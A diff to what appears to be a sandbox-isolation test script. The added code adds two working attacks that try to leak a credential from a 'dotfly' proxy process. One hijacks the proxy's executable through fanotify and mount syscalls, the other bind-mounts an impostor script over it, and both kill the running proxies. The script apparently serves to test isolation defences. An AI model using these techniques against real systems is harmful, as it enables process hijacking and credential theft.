@@ -1,13 +1,19 @@
 # What an attacker inside the Machine tries on a process: prints a line `attack result` for each, `leak` or an errno.
 # The credential's end is in argv[2], the pid in argv[1]; further words say who the attacker becomes first.
-import ctypes, errno, os, re, sys
+import ctypes, errno, os, re, signal, socket, struct, sys, tempfile
 
 libc = ctypes.CDLL(None, use_errno=True)
 libc.syscall.restype = ctypes.c_long
 pid, needle = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
+# What the proxy is started from, and the socket that it serves.
+program = guests = ""
 for word in sys.argv[3:]:
     name, _, value = word.partition("=")
-    if name == "gid":
+    if name == "program":
+        program = value
+    elif name == "socket":
+        guests = value
+    elif name == "gid":
         os.setgroups([])
         os.setresgid(*[int(value)] * 3)
     elif name == "uid":
@@ -107,9 +113,109 @@ def environ():
         return "leak" if needle in file.read() else "nothing"
 
 
+# What is run in place of the next proxy, with the page as a descriptor that it has inherited.
+IMPOSTOR = """#!{python}
+import mmap
+found = bytes.fromhex("{needle}") in mmap.mmap(3, 16384, mmap.MAP_SHARED, mmap.PROT_READ)[:]
+with open("{said}", "w") as file:
+    file.write("leak" if found else "nothing")
+"""
+
+
+def lay():
+    """Where the impostor lies, and where it will write what it found."""
+    directory = tempfile.mkdtemp()
+    os.chmod(directory, 0o777)
+    impostor, said = f"{directory}/impostor", f"{directory}/said"
+    with open(impostor, "w") as file:
+        # Where there is one for everybody: the next proxy is nobody special.
+        python = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else os.path.realpath(sys.executable)
+        file.write(IMPOSTOR.format(python=python, needle=needle.hex(), said=said))
+    os.chmod(impostor, 0o755)
+    return impostor, said
+
+
+def proxies():
+    """As they are now; the first is the one that we were given."""
+    for name in os.listdir("/proc"):
+        try:
+            with open(f"/proc/{name}/cmdline", "rb") as file:
+                if file.read().startswith(b"dotfly\0"):
+                    yield int(name)
+        except OSError:
+            pass
+
+
+def restart(said=None):
+    """Kills it, and comes back when the next one serves, or says what it found."""
+    for proxy in list(proxies()):
+        os.kill(proxy, signal.SIGKILL)
+        try:
+            os.waitpid(proxy, 0x40000000)  # __WALL: whom we trace, we bury before its parent does
+        except ChildProcessError:
+            pass
+    guest = socket.socket(socket.AF_UNIX)
+    guest.settimeout(0.1)
+    guest.connect(guests)
+    guest.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
+    while said is None or not os.path.exists(said) or os.path.getsize(said) == 0:
+        try:
+            return "restarted" if guest.recv(1) == b"H" else "closed"
+        except TimeoutError:
+            continue
+    with open(said) as file:
+        return file.read()
+
+
+def fanotify():
+    """The very file that a new proxy is started from, as it is mounted where that proxy is; and a mount over it."""
+    impostor, said = lay()
+    watch = libc.fanotify_init(1, os.O_RDONLY | os.O_CLOEXEC)  # FAN_CLOEXEC
+    if watch < 0:
+        failed()
+    libc.fanotify_mark.argtypes = [ctypes.c_int, ctypes.c_uint, ctypes.c_uint64, ctypes.c_int, ctypes.c_char_p]
+    # FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN_EXEC
+    if libc.fanotify_mark(watch, 0x101, 0x1000, -100, program.encode()) < 0:
+        failed()
+    restart()
+    events, had = os.read(watch, 65536), None
+    while events:
+        length, _, _, _, _, fd, who = struct.unpack_from("=IBBHQii", events)
+        events = events[length:]
+        # Others on this computer start the same file, as it is mounted where they are.
+        if who in list(proxies()) and os.path.samestat(os.fstat(fd), os.stat(program)):
+            had = fd
+        else:
+            os.close(fd)
+    os.close(watch)
+    if had is None:
+        return "unseen"
+    # OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC; MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH
+    tree = libc.syscall(428, -100, impostor.encode(), 0x80001)
+    if tree < 0 or libc.syscall(429, tree, b"", had, b"", 0x44) < 0:
+        failed()
+    found = restart(said)
+    # It has been seen: the next attack begins with a proxy again.
+    libc.umount2(program.encode(), 2)
+    restart()
+    return found
+
+
+def overmount():
+    impostor, said = lay()
+    libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_char_p]
+    if libc.mount(impostor.encode(), program.encode(), None, 4096, None) < 0:  # MS_BIND
+        failed()
+    return restart(said)
+
+
 attempt("memory", memory)
 attempt("readv", readv)
 attempt("descriptors", steal)
 attempt("reopen", reopen)
 attempt("environ", environ)
 attempt("ptrace", ptrace)
+# The last, for they kill.
+if program:
+    attempt("fanotify", fanotify)
+    attempt("overmount", overmount)
